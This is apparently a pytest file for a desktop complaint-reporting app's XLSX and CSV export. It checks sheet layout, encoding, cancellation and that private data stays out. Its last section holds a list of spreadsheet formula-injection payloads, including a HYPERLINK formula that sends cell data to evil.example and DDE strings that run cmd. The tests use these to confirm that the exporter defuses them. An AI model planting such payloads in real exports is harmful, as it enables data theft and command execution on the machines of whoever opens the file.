"""XLSX and CSV exports open back with the expected content, and leak nothing private."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from lapor_desktop.reports.export_files import ExportCancelled, write_csv, write_xlsx
from lapor_desktop.reports.monthly import load_report
from lapor_desktop.reports.period import Period
from lapor_desktop.reports.tables import LINE_HEADERS
from tests.unit.reports.seeding import MARKER, NOW, REPORTER


@pytest.fixture
def report(seeded):
    store, _ = seeded
    return load_report(store, Period.parse("2026-11"), NOW)


def _all_text(book) -> str:
    return "\n".join(str(v) for ws in book for row in ws.iter_rows(values_only=True)
                     for v in row if v is not None)


def test_xlsx_has_indicator_and_report_sheets(report, tmp_path):
    path = write_xlsx(report, tmp_path / "laporan.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Indikator", "Laporan"]
    values = {row[0]: row[1] for row in book["Indikator"].iter_rows(values_only=True) if row}
    ind = report.indicators
    assert values["Laporan diterima"] == ind.received
    assert values["Selesai"] == ind.finished
    assert values["% Ditindaklanjuti"] == round(ind.pct_followed_up, 1)
    assert values["Terlambat (semua tahap)"] == ind.overdue
    sheet = book["Laporan"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == LINE_HEADERS
    assert len(rows) - 1 == ind.received - ind.rahasia  # rahasia counted, never listed
    assert sheet.freeze_panes == "A2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["A1"].font.b
    assert sheet.column_dimensions["B"].width == 48
    text = _all_text(book)
    assert MARKER not in text and REPORTER not in text


def test_csv_round_trips_with_bom(report, tmp_path):
    path = write_csv(report, tmp_path / "laporan.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert tuple(rows[0]) == LINE_HEADERS
    assert [r[0] for r in rows[1:]] == [ln.tracking_id for ln in report.lines]
    assert [r[1] for r in rows[1:]] == [ln.title for ln in report.lines]
    text = raw.decode("utf-8-sig")
    assert MARKER not in text and REPORTER not in text


def test_cancelled_export_leaves_no_file(report, tmp_path):
    folder = tmp_path / "keluar"
    folder.mkdir()
    with pytest.raises(ExportCancelled):
        write_xlsx(report, folder / "batal.xlsx", cancelled=lambda: True)
    with pytest.raises(ExportCancelled):
        write_csv(report, folder / "batal.csv", cancelled=lambda: True)
    assert list(folder.iterdir()) == []


# --- finding 4 of issue 19: formula injection ------------------------------------------------

INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C calc'!A0",
              "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


@pytest.fixture
def hostile_report(tmp_path):
    import dataclasses

    from lapor_desktop.store import open_store
    from tests.unit.reports.seeding import build_complaints, seed_store

    complaints = build_complaints()
    shown = [c for c in complaints if not c.rahasia][:len(INJECTIONS)]
    by_id = {c.id: title for c, title in zip(shown, INJECTIONS, strict=True)}
    complaints = [dataclasses.replace(c, title=by_id[c.id]) if c.id in by_id else c
                  for c in complaints]
    store = open_store(tmp_path / "lapor.db")
    seed_store(store, complaints)
    report = load_report(store, Period.parse("2026-11"), NOW)
    store.close()
    titles = {ln.title for ln in report.lines}
    assert titles & set(INJECTIONS), "the hostile titles must be in the report period"
    return report, titles & set(INJECTIONS)


def test_xlsx_cells_that_look_like_formulas_stay_text(hostile_report, tmp_path):
    report, injected = hostile_report
    book = openpyxl.load_workbook(write_xlsx(report, tmp_path / "laporan.xlsx"))
    cells = [c for row in book["Laporan"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for title in injected:
        assert "'" + title in values


def test_csv_cells_that_look_like_formulas_get_a_leading_quote(hostile_report, tmp_path):
    report, injected = hostile_report
    path = write_csv(report, tmp_path / "laporan.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        titles = [r[1] for r in list(csv.reader(handle))[1:]]
    for title in injected:
        assert "'" + title in titles and title not in titles
    assert not [t for t in titles if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
